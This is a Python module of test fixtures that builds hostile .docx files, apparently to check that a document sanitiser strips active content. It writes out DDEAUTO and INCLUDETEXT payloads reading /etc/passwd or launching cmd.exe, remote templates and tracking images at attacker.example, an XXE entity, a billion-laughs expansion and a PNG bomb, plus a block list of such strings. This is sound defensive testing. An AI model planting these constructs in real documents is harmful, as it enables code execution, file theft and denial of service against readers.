"""Hostile Word notes, made here with python-docx and by editing their XML and zip.

Each function returns the bytes of a small .docx that carries one kind of active or abusive
content; the tests (and the scaling benchmark, through :func:`many_paragraphs` and
:func:`time_word_note`) build on them. Nothing here touches the network or reads a file.
"""

from __future__ import annotations

import datetime as dt
import io
import struct
import time
import zipfile
import zlib
from pathlib import Path

import docx
from docx.document import Document as DocumentObject
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Mm
from docx.text.paragraph import Paragraph as DocxParagraph
from PIL import Image as PilImage

# Text that must never reach a pack from the hostile note (as a link, a field code or a part).
FORBIDDEN = (
    "javascript:",
    "file:",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "DDEAUTO",
    "cmd.exe",
    "calc.exe",
    "attacker.example",
    "oleObject",
    "activeX",
    "altChunk",
    "afchunk",
    "vbaProject",
    "attachedTemplate",
    "subDoc",
    "MSDASQL",
)
# Text each hostile construct showed, which the pack keeps.
SHOWN = (
    "PASSWD-RESULT",
    "PICTURE-RESULT",
    "DDE-RESULT",
    "SIMPLE-RESULT",
    "JS-FIELD",
    "NESTED-RESULT",
    "JS-LINK",
    "CALC-LINK",
    "WEB-LINK",
    "Safe page 7",
)
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


def png(width: int = 3, height: int = 2, rows: bytes | None = None) -> bytes:
    """A PNG of ``width`` × ``height`` grey pixels (its rows compressed as given, or real)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = rows if rows is not None else (b"\x00" + b"\x80" * width) * height
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def png_bomb(side: int = 100_000) -> bytes:
    """A PNG whose header announces ``side`` × ``side`` pixels (10 gigapixels by default) with a
    few bytes of data: decoding it would take all the memory there is."""
    return png(side, side, rows=b"\x00" * 64)


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    """A real JPEG (a gradient)."""
    picture = PilImage.linear_gradient("L").resize(size).convert("RGB")
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=90)
    return out.getvalue()


def saved(document: DocumentObject) -> bytes:
    """The document as .docx bytes."""
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def zip_members(data: bytes) -> dict[str, bytes]:
    """Every member of a zip, by name, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: dict[str, bytes]) -> bytes:
    """A deflated zip of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, payload in members.items():
            archive.writestr(name, payload)
    return out.getvalue()


# =========================================================================== pieces


def run(text: str) -> OxmlElement:
    """A ``w:r`` holding ``text``."""
    element = OxmlElement("w:r")
    node = OxmlElement("w:t")
    node.set(qn("xml:space"), "preserve")
    node.text = text
    element.append(node)
    return element


def field_runs(code: str, result: str) -> list[OxmlElement]:
    """The runs of a complex field: begin, code, separate, result, end."""

    def char(kind: str) -> OxmlElement:
        element = OxmlElement("w:r")
        mark = OxmlElement("w:fldChar")
        mark.set(qn("w:fldCharType"), kind)
        element.append(mark)
        return element

    instruction = OxmlElement("w:r")
    text = OxmlElement("w:instrText")
    text.set(qn("xml:space"), "preserve")
    text.text = f" {code} "
    instruction.append(text)
    return [char("begin"), instruction, char("separate"), run(result), char("end")]


def add_field(paragraph: DocxParagraph, code: str, result: str) -> None:
    """A complex field at the end of ``paragraph``."""
    for element in field_runs(code, result):
        paragraph._p.append(element)


def add_simple_field(paragraph: DocxParagraph, code: str, result: str) -> None:
    """A ``w:fldSimple`` at the end of ``paragraph``."""
    simple = OxmlElement("w:fldSimple")
    simple.set(qn("w:instr"), code)
    simple.append(run(result))
    paragraph._p.append(simple)


def add_nested_field(paragraph: DocxParagraph) -> None:
    """A REF field (safe) whose code holds an INCLUDETEXT field (not safe): Word would run the
    inner one to build the outer one's code."""
    outer = field_runs("REF", "NESTED-RESULT")
    inner = field_runs('INCLUDETEXT "file:///etc/shadow"', "inner result")
    for element in [*outer[:2], *inner, *outer[2:]]:
        paragraph._p.append(element)


def add_link(paragraph: DocxParagraph, url: str, text: str) -> None:
    """A ``w:hyperlink`` to an external address."""
    rel_id = paragraph.part.relate_to(url, RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    link.append(run(text))
    paragraph._p.append(link)


def add_part(document: DocumentObject, name: str, content_type: str, blob: bytes, rel: str) -> str:
    """A part of the package related from the body; its relationship id."""
    part = Part(PackURI(name), content_type, blob, document.part.package)
    return document.part.relate_to(part, rel)


def add_ole_object(document: DocumentObject, paragraph: DocxParagraph) -> None:
    """An embedded OLE package (a program inside the note) with its preview picture."""
    ole = add_part(
        document,
        "/word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"calc.exe" * 8,
        RT.OLE_OBJECT,
    )
    preview, _ = document.part.get_or_add_image(io.BytesIO(png()))
    xml = (
        f'<w:r {nsdecls("w", "r")} {VML}><w:object w:dxaOrig="1440" w:dyaOrig="960">'
        '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:48pt" o:ole="">'
        f'<v:imagedata r:id="{preview}" o:title=""/></v:shape>'
        f'<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
        f'DrawAspect="Icon" ObjectID="_1" r:id="{ole}"/></w:object></w:r>'
    )
    paragraph._p.append(parse_xml(xml))


def add_activex(document: DocumentObject, paragraph: DocxParagraph) -> None:
    """An ActiveX control (a button that runs code) in a VML picture."""
    control = add_part(
        document,
        "/word/activeX/activeX1.xml",
        "application/vnd.ms-office.activeX+xml",
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control",
    )
    xml = (
        f"<w:r {nsdecls('w', 'r')} {VML}><w:pict>"
        '<v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:60pt;height:20pt"/>'
        f'<w:control r:id="{control}" w:name="CommandButton1" w:shapeid="_x0000_i1026"/>'
        "</w:pict></w:r>"
    )
    paragraph._p.append(parse_xml(xml))


def add_alt_chunk(document: DocumentObject) -> None:
    """An altChunk: another document (here HTML) Word imports when it opens the file."""
    chunk = add_part(
        document,
        "/word/afchunk.htm",
        "text/html",
        b"<html><body><script>alert(1)</script>CHUNK TEXT</body></html>",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk",
    )
    element = OxmlElement("w:altChunk")
    element.set(qn("r:id"), chunk)
    document.element.body.insert(len(document.element.body) - 1, element)


def add_subdocument(document: DocumentObject, paragraph: DocxParagraph) -> None:
    """A subdocument Word would load from a share."""
    rel_id = document.part.relate_to(
        "file:///C:/Users/Public/secret.docx",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument",
        is_external=True,
    )
    element = OxmlElement("w:subDoc")
    element.set(qn("r:id"), rel_id)
    paragraph._p.append(element)


def add_linked_pictures(document: DocumentObject) -> None:
    """Two pictures fetched from a server when Word opens the note: one linked only, one
    embedded and linked (its embedded copy may stay)."""
    for keep_embedded in (False, True):
        document.add_picture(io.BytesIO(png()), width=Mm(10))
        blip = document.element.body.findall(f".//{qn('a:blip')}")[-1]
        rel_id = document.part.relate_to(
            "http://attacker.example/track.png", RT.IMAGE, is_external=True
        )
        blip.set(qn("r:link"), rel_id)
        if not keep_embedded:
            del blip.attrib[qn("r:embed")]


def add_attached_template(document: DocumentObject) -> None:
    """A remote template (with macros) Word would fetch when it opens the note."""
    rel_id = document.part._settings_part.relate_to(
        "http://attacker.example/template.dotm",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    template = OxmlElement("w:attachedTemplate")
    template.set(qn("r:id"), rel_id)
    document.settings.element.insert(0, template)


def add_mail_merge(document: DocumentObject) -> None:
    """A mail merge whose data source is a database query Word would run on opening."""
    xml = (
        f'<w:mailMerge {nsdecls("w")}><w:mainDocumentType w:val="formLetters"/>'
        '<w:connectString w:val="Provider=MSDASQL;DSN=attacker.example"/>'
        '<w:query w:val="SELECT * FROM secrets"/></w:mailMerge>'
    )
    document.settings.element.append(parse_xml(xml))


def add_vml_source(paragraph: DocxParagraph) -> None:
    """A VML picture whose source is an address, not a part."""
    xml = (
        f"<w:r {nsdecls('w')} {VML}><w:pict>"
        '<v:shape id="_x0000_i1027" style="width:20pt;height:20pt">'
        '<v:imagedata src="http://attacker.example/beacon.png" o:href="file:///C:/x.png"/>'
        "</v:shape></w:pict></w:r>"
    )
    paragraph._p.append(parse_xml(xml))


MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
WPS = 'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'


def _char_run(kind: str) -> str:
    return f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code_run(code: str, tag: str = "w:instrText") -> str:
    return f'<w:r {nsdecls("w")}><{tag} xml:space="preserve"> {code} </{tag}></w:r>'


def _in_choice(inner: str) -> str:
    """A run whose only content is ``inner`` inside an ``mc:Choice`` (no fallback)."""
    return (
        f'<w:r {nsdecls("w")} {MC}><mc:AlternateContent><mc:Choice Requires="w">{inner}'
        "</mc:Choice></mc:AlternateContent></w:r>"
    )


def add_alternate_field(paragraph: DocxParagraph, variant: str) -> None:
    """An INCLUDETEXT field hidden in markup compatibility, where a Word that takes the
    choice sees it: ``"begin"`` puts the field's begin mark in an ``mc:Choice``; ``"code"``
    puts a whole INCLUDETEXT field in an ``mc:Choice`` in the code part of a PAGE field."""
    passwd = 'INCLUDETEXT "file:///etc/passwd"'
    if variant == "begin":
        runs = [
            _in_choice('<w:fldChar w:fldCharType="begin"/>'),
            _code_run(passwd),
            _char_run("separate"),
            f"<w:r {nsdecls('w')}><w:t>ALTERNATE-RESULT</w:t></w:r>",
            _char_run("end"),
        ]
    else:
        hidden = (
            '<w:fldChar w:fldCharType="begin"/>'
            f'<w:instrText xml:space="preserve"> {passwd} </w:instrText>'
            '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>'
        )
        runs = [
            _char_run("begin"),
            _in_choice(hidden),
            _code_run("PAGE"),
            _char_run("separate"),
            f"<w:r {nsdecls('w')}><w:t>ALTERNATE-RESULT</w:t></w:r>",
            _char_run("end"),
        ]
    for xml in runs:
        paragraph._p.append(parse_xml(xml))


def add_text_box(paragraph: DocxParagraph, text: str) -> None:
    """A text box as Word 2010 and later write it: a DrawingML shape, with a VML fallback for
    readers that know no extension, each holding ``text``."""
    content = f"<w:txbxContent><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:txbxContent>"
    xml = (
        f"<w:r {nsdecls('w', 'wp', 'a')} {MC} {WPS} {VML}><mc:AlternateContent>"
        '<mc:Choice Requires="wps"><w:drawing><wp:inline><wp:extent cx="914400" cy="457200"/>'
        '<wp:docPr id="1" name="Text Box 1"/><a:graphic><a:graphicData uri="http://schemas.'
        'microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:txbx>'
        f"{content}</wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline>"
        "</w:drawing></mc:Choice><mc:Fallback><w:pict>"
        '<v:rect style="width:72pt;height:36pt"><v:textbox>'
        f"{content}</v:textbox></v:rect></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    paragraph._p.append(parse_xml(xml))


def add_vml_link(paragraph: DocxParagraph, href: str) -> None:
    """A VML shape that is a link (``href``) to ``href``."""
    xml = (
        f"<w:r {nsdecls('w')} {VML}><w:pict>"
        f'<v:rect style="width:20pt;height:20pt" href="{href}" o:button="t"/></w:pict></w:r>'
    )
    paragraph._p.append(parse_xml(xml))


def unclosed_fields(count: int) -> bytes:
    """A note of ``count`` fields that begin and separate and never end, then a word: small,
    and the worst case for following fields one mark at a time."""
    document = simple_note()
    paragraph = document.add_paragraph()
    for _ in range(count):
        paragraph._p.append(parse_xml(_char_run("begin")))
        paragraph._p.append(parse_xml(_char_run("separate")))
    paragraph._p.append(run("AFTER-THE-FIELDS"))
    return saved(document)


def add_macros(document: DocumentObject) -> None:
    """A vbaProject part (macros), as a .docm carries them."""
    add_part(
        document,
        "/word/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name AutoOpen Shell calc.exe",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    )


# =========================================================================== whole notes


def hostile_note() -> bytes:
    """A Word note with every kind of active content a pack must not carry, each next to the
    text it showed (which the pack keeps), and safe fields and links (which it keeps too)."""
    document = docx.Document()
    document.add_heading("Partner brief", 1)
    fields = document.add_paragraph("Fields: ")
    add_field(fields, 'INCLUDETEXT "file:///etc/passwd"', "PASSWD-RESULT")
    add_field(fields, 'INCLUDEPICTURE "http://attacker.example/x.png" \\d', "PICTURE-RESULT")
    add_field(fields, 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "DDE-RESULT")
    add_simple_field(fields, 'INCLUDETEXT "file:///etc/hosts"', "SIMPLE-RESULT")
    add_simple_field(fields, 'DDEAUTO cmd.exe "/c calc.exe"', " and more")
    add_field(fields, 'HYPERLINK "javascript:alert(1)"', "JS-FIELD")
    add_nested_field(fields)
    safe = document.add_paragraph("Safe page ")
    add_field(safe, "PAGE", "7")
    add_simple_field(safe, "NUMPAGES", " of 9")
    add_field(safe, 'HYPERLINK "https://example.org/field"', " web field")
    links = document.add_paragraph("Links: ")
    add_link(links, "javascript:alert(document.cookie)", "JS-LINK")
    add_link(links, "file:///C:/Windows/System32/calc.exe", " CALC-LINK")
    add_link(links, "https://example.org/partner", " WEB-LINK")
    objects = document.add_paragraph("Objects: ")
    add_ole_object(document, objects)
    add_activex(document, objects)
    add_subdocument(document, objects)
    add_alt_chunk(document)
    add_linked_pictures(document)
    add_attached_template(document)
    add_mail_merge(document)
    add_vml_source(objects)
    add_macros(document)
    document.add_paragraph("The end of the partner brief.")
    return saved(document)


def with_doctype(data: bytes, part: str, doctype: str, entity_use: str = "") -> bytes:
    """The note with a DOCTYPE placed in ``part`` (and ``entity_use`` in its first w:t)."""
    members = zip_members(data)
    xml = members[part]
    declaration_end = xml.index(b"?>") + 2
    xml = xml[:declaration_end] + doctype.encode() + xml[declaration_end:]
    if entity_use:
        xml = xml.replace(b"Partner brief</w:t>", f"Partner brief{entity_use}</w:t>".encode(), 1)
    members[part] = xml
    return zipped(members)


XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def simple_note(title: str = "Partner brief") -> docx.document.Document:
    """A small plain note to add one hostile thing to."""
    document = docx.Document()
    document.add_heading(title, 1)
    document.add_paragraph("Kept text before.")
    return document


def note_with_picture(picture: bytes, stored: bytes | None = None) -> bytes:
    """A note with one picture between two paragraphs (python-docx reads only its header);
    ``stored``: other bytes to put in the picture's part (a damaged copy)."""
    document = simple_note()
    document.add_picture(io.BytesIO(picture), width=Mm(20))
    document.add_paragraph("Kept text after.")
    data = saved(document)
    if stored is None:
        return data
    members = zip_members(data)
    (name,) = [n for n in members if n.startswith("word/media/")]
    members[name] = stored
    return zipped(members)


def many_paragraphs(count: int) -> bytes:
    """A note of ``count`` tiny paragraphs (the shape of a 30 KB note of 291,000 paragraphs)."""
    document = docx.Document()
    end = document.element.body[-1]  # the section properties stay last
    paragraphs = "".join(f"<w:p><w:r><w:t>p{i}</w:t></w:r></w:p>" for i in range(count))
    for paragraph in list(parse_xml(f"<w:body {nsdecls('w')}>{paragraphs}</w:body>")):
        end.addprevious(paragraph)
    return saved(document)


def wide_table(columns: int = 300) -> bytes:
    """A note with a table of ``columns`` columns."""
    document = simple_note()
    table = document.add_table(rows=2, cols=columns)
    for column in range(columns):
        table.cell(0, column).text = f"H{column}"
        table.cell(1, column).text = f"v{column}"
    document.add_paragraph("After the wide table.")
    return saved(document)


def time_word_note(count: int, folder: Path) -> tuple[float, float]:
    """Seconds to read a note of ``count`` tiny paragraphs into blocks, and to render it into
    a DOCX pack (for the scaling benchmark)."""
    from briefing.model import PaperSize
    from briefing.pack import document as d
    from briefing.pack.docx_notes import read_word_note
    from briefing.render.docx import DocxRenderer

    data = many_paragraphs(count)
    start = time.perf_counter()
    blocks, clean = read_word_note(data, "many.docx", "note-1")
    read = time.perf_counter() - start
    pack = d.PackDocument(
        "scaling", "Scaling", "Scaling", "", "", "", (), "en", PaperSize.A4, "",
        dt.date(2017, 11, 28),
        (d.Heading(1, "Notes", "notes"), d.WordNote("k", "many.docx", clean.data, blocks)),
    )  # fmt: skip
    start = time.perf_counter()
    DocxRenderer().render(pack, folder / "scaling.docx")
    return read, time.perf_counter() - start
